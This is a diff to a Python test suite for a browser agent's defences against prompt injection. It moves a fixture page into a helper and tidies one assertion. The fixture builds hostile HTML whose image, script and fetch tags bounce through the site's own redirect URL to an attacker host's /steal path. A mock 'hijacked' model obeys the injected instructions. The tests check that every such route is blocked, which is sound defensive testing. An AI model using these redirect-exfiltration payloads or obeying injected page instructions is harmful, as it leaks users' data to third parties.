@@ -36,6 +36,13 @@ def injection_page(evil: str) -> str:
 <a href="/redirect?to={steal}%3Fvia%3Dredirect">Partner site</a>"""
 
 
+def redirects_page(evil: str) -> str:
+    """The page's own (allowed) URLs, answered with a redirect to the other host."""
+    return (f'<h1>Shop</h1><img src="/redirect?to={evil}/steal%3Fvia%3Dimage-redirect" alt="ad">'
+            f'<script src="/redirect?to={evil}/steal%3Fvia%3Dscript-redirect"></script>'
+            f'<script>fetch("/redirect?to={evil}/steal%3Fvia%3Dfetch-redirect").catch(() => null)</script>')
+
+
 class ObeyInjectedInstructions:
     """A compliant (hijacked) model: navigates where the page says, then tries every foreign way out."""
 
@@ -71,11 +78,7 @@ def site(evil):
 
     pages = {"/product": injection_page(evil.origin), "/redirect": redirect,
              "/with-image": f'<h1>Shop</h1><img src="{evil.origin}/steal?via=image" alt="ad">',
-             # The page's own (allowed) URLs, answered with a redirect to the other host.
-             "/with-redirects": '<h1>Shop</h1><img src="/redirect?to={0}/steal%3Fvia%3Dimage-redirect" alt="ad">'
-                                '<script src="/redirect?to={0}/steal%3Fvia%3Dscript-redirect"></script>'
-                                '<script>fetch("/redirect?to={0}/steal%3Fvia%3Dfetch-redirect").catch(() => null)</script>'
-                                .format(evil.origin)}
+             "/with-redirects": redirects_page(evil.origin)}
     with Site(pages=pages) as running:
         yield running
 
@@ -105,8 +108,8 @@ async def test_injected_instructions_are_blocked_and_nothing_reaches_the_other_h
     seen = [last_tool_results(request)[0] for request in requests[1:]]
     assert all(view.is_error and "blocked" in view.text for view in seen[: len(attempts)])
     # ... and the failed action as the last error in the history the model is shown next.
-    history = [block["text"] for block in requests[1]["messages"][-1]["content"]
-               if block.get("type") == "text" and block["text"].startswith("<history>")][0]
+    history = next(block["text"] for block in requests[1]["messages"][-1]["content"]
+                   if block.get("type") == "text" and block["text"].startswith("<history>"))
     assert f"Last error (step 1): navigate url=\"{evil.origin}/steal?task=yours\" -> navigation to" in history
     assert "redirect" in attempts[-1].message  # the redirect hop was stopped too
 
